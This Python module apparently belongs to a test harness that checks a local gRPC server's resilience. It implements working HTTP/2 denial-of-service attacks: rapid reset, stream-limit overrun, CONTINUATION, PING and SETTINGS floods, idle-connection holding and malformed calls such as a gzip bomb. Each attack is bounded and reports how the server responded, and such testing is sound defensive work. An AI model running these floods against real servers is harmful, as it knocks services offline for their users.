"""Attackers, each run in a process of its own by harness.under_attack.

Each puts "started" on its queue once under way, attacks for at most `seconds` (and a bounded count of
frames, bytes or connections), then puts a report: what it sent and how the server answered. Whenever the
server closes an attacking connection, the attacker opens another, as a real one would.
"""

from __future__ import annotations

import os
import socket
import time
from multiprocessing.queues import Queue
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from bench.rawh2 import (
    CANCEL,
    REFUSED_STREAM,
    RawConnection,
    grpc_message,
    gzip_message,
    request_headers,
)
from catalog import GET_PRODUCT_METHOD

# GetProductRequest(id="p000001"), serialised by hand: this process needs no generated code.
GET_REQUEST = grpc_message(b"\n\x07p000001")

Report = dict[str, Any]


def _goaway_code(connection: RawConnection) -> int | None:
    return None if connection.goaway is None else int(connection.goaway.error_code)


def rapid_reset(queue: Queue[Any], port: int, seconds: float, max_pairs: int) -> None:
    """HEADERS then RST_STREAM(CANCEL) for one new stream after another, in batches of 100 pairs."""
    connection = RawConnection(port)
    queue.put("started")
    deadline = time.monotonic() + seconds
    pairs = 0
    connections = 1
    goaways: list[int | None] = []
    while pairs < max_pairs and time.monotonic() < deadline:
        frames = []
        for _ in range(100):
            stream_id = connection.new_stream_id()
            frames += [
                connection.headers_frame(stream_id, request_headers(GET_PRODUCT_METHOD)),
                RstStreamFrame(stream_id, error_code=CANCEL),
            ]
        connection.send(*frames)
        pairs += 100
        connection.read(0)
        if connection.closed or connection.goaway is not None:
            goaways.append(_goaway_code(connection))
            connection.close()
            connection = RawConnection(port)
            connections += 1
    connection.close()
    queue.put({"pairs": pairs, "connections": connections, "goaways": goaways})


def too_many_streams(queue: Queue[Any], port: int, seconds: float, streams: int) -> None:
    """Open `streams` streams on one connection at once, ignoring the server's advertised limit."""
    connection = RawConnection(port)
    connection.read(0.2)  # the server's SETTINGS
    queue.put("started")
    frames = []
    for _ in range(streams):  # headers only: each stream waits for a request message that never comes
        frames.append(
            connection.headers_frame(connection.new_stream_id(), request_headers(GET_PRODUCT_METHOD))
        )
    connection.send(*frames)
    connection.read(seconds)
    refused = sum(1 for outcome in connection.streams.values() if outcome.reset == REFUSED_STREAM)
    connection.close()
    queue.put(
        {
            "advertised": connection.server_settings.get(SettingsFrame.MAX_CONCURRENT_STREAMS),
            "refused": refused,
            "goaway": _goaway_code(connection),
        }
    )


def continuation_flood(queue: Queue[Any], port: int, seconds: float, max_bytes: int) -> None:
    """HEADERS without END_HEADERS, then CONTINUATION frames of 16 KiB header fields that never end."""
    queue.put("started")
    deadline = time.monotonic() + seconds
    sent_total = 0
    reactions: list[dict[str, Any]] = []
    fragment = bytes(
        hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x-pad", "a" * 16_000)], huffman=False)
    )
    while sent_total < max_bytes and time.monotonic() < deadline:
        connection = RawConnection(port)
        stream_id = connection.new_stream_id()
        connection.send(
            HeadersFrame(stream_id, data=connection.header_block(request_headers(GET_PRODUCT_METHOD)))
        )
        sent = 0
        while not (connection.closed or connection.goaway or connection.streams):
            if sent_total + sent >= max_bytes or time.monotonic() >= deadline:
                break
            connection.send(*(ContinuationFrame(stream_id, data=fragment) for _ in range(16)))
            sent += 16 * len(fragment)
            connection.read(0)
        connection.read(0.2)
        reactions.append(
            {
                "bytes": sent,
                "goaway": _goaway_code(connection),
                "reset": connection.streams[stream_id].reset if stream_id in connection.streams else None,
                "closed": connection.closed,
            }
        )
        sent_total += sent
        connection.close()
    queue.put({"bytes": sent_total, "reactions": reactions})


def ping_flood(queue: Queue[Any], port: int, seconds: float, max_pings: int) -> None:
    """PING after PING with no data in between, in batches of 50, on one connection after another."""
    queue.put("started")
    deadline = time.monotonic() + seconds
    pings = 0
    closes: list[dict[str, Any]] = []
    while pings < max_pings and time.monotonic() < deadline:
        connection = RawConnection(port)
        sent = 0
        while not (connection.closed or connection.goaway) and time.monotonic() < deadline:
            connection.send(*(PingFrame(0, opaque_data=os.urandom(8)) for _ in range(50)))
            sent += 50
            connection.read(0.01)
            if pings + sent >= max_pings:
                break
        connection.read(0.2)
        pings += sent
        closes.append({"pings": sent, "goaway": _goaway_code(connection), "closed": connection.closed})
        connection.close()
    queue.put({"pings": pings, "closes": closes})


def settings_flood(queue: Queue[Any], port: int, seconds: float, max_frames: int) -> None:
    """SETTINGS frames by the thousand without reading the server's acknowledgements."""
    queue.put("started")
    deadline = time.monotonic() + seconds
    frames_sent = 0
    pushed_back = 0  # connections the server stopped reading from or closed
    flood = b""
    for value in range(1000):
        frame = SettingsFrame(0)
        frame.settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 65535 + value, SettingsFrame.ENABLE_PUSH: 0}
        flood += frame.serialize()
    while frames_sent < max_frames and time.monotonic() < deadline:
        connection = RawConnection(port)
        connection.sock.settimeout(0.5)  # a server that stops reading makes a write time out
        while not connection.closed and frames_sent < max_frames and time.monotonic() < deadline:
            connection.send_bytes(flood)
            frames_sent += 1000
        pushed_back += connection.closed
        connection.close()
    queue.put({"frames": frames_sent, "pushed_back": pushed_back})


def idle_connections(queue: Queue[Any], port: int, seconds: float, with_preface: int, silent: int) -> None:
    """Hold `with_preface` HTTP/2 connections that open no stream and `silent` TCP ones that send nothing."""
    held = [RawConnection(port) for _ in range(with_preface)]
    bare = [socket.create_connection(("127.0.0.1", port)) for _ in range(silent)]
    queue.put("started")
    time.sleep(seconds)
    for connection in held:
        connection.read(0)
    still_open = sum(not connection.closed for connection in held)
    for connection in held:
        connection.close()
    for sock in bare:
        sock.close()
    queue.put({"held": with_preface + silent, "http2_still_open": still_open})


def _bad_call(connection: RawConnection, kind: str) -> int:
    """Send one bad call of `kind` on `connection`; return its stream id."""
    if kind == "huge-declared":  # a 100 MiB message announced, 16 kB of it sent, then nothing
        stream_id = connection.new_stream_id()
        connection.send(
            connection.headers_frame(stream_id, request_headers(GET_PRODUCT_METHOD)),
            DataFrame(stream_id, data=b"\x00" + (100 << 20).to_bytes(4, "big") + bytes(16_000)),
        )
        return stream_id
    if kind == "oversized":  # a whole request message of 20,000 bytes
        frames = connection.call_frames(GET_PRODUCT_METHOD, grpc_message(b"\n\xa0\x9c\x01" + b"a" * 20_000))
    elif kind == "gzip-bomb":  # 8 kB of gzip that inflates to an 8 MiB request
        message = gzip_message(b"\n" + _varint(8 << 20) + b"a" * (8 << 20))
        frames = connection.call_frames(GET_PRODUCT_METHOD, message, [("grpc-encoding", "gzip")])
    elif kind == "huge-metadata":  # one 20,000-byte header value: above the hard limit
        frames = connection.call_frames(GET_PRODUCT_METHOD, GET_REQUEST, [("x-huge", "a" * 20_000)])
    else:
        raise ValueError(kind)
    connection.send(*frames)
    return frames[0].stream_id


def _varint(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def _read_answer(connection: RawConnection, stream_id: int) -> None:
    """Read until the stream has ended, or for at most 2 s."""
    connection.read_until(lambda: stream_id in connection.streams and connection.streams[stream_id].ended, 2)


def _settled(port: int) -> RawConnection:
    """A connection that has acknowledged the server's SETTINGS, so the server's limits are in force.

    Until then core measures header blocks against HTTP/2's default limit, not the server's (RFC 9113
    lets a peer assume the defaults until it has seen the settings).
    """
    connection = RawConnection(port)
    connection.read_until(lambda: bool(connection.server_settings), 5)
    return connection


def bad_calls(queue: Queue[Any], port: int, seconds: float, kind: str, max_calls: int) -> None:
    """Bad calls of one `kind`, one after another, each waited for: the grpc-status each got, and its size."""
    queue.put("started")
    deadline = time.monotonic() + seconds
    statuses: list[int | None] = []
    connection = _settled(port)
    while len(statuses) < max_calls and time.monotonic() < deadline:
        if connection.closed or connection.goaway is not None:
            connection.close()
            connection = _settled(port)
        stream_id = _bad_call(connection, kind)
        _read_answer(connection, stream_id)
        outcome = connection.streams.get(stream_id)
        statuses.append(None if outcome is None else outcome.grpc_status)
    connection.close()
    queue.put({"statuses": statuses})
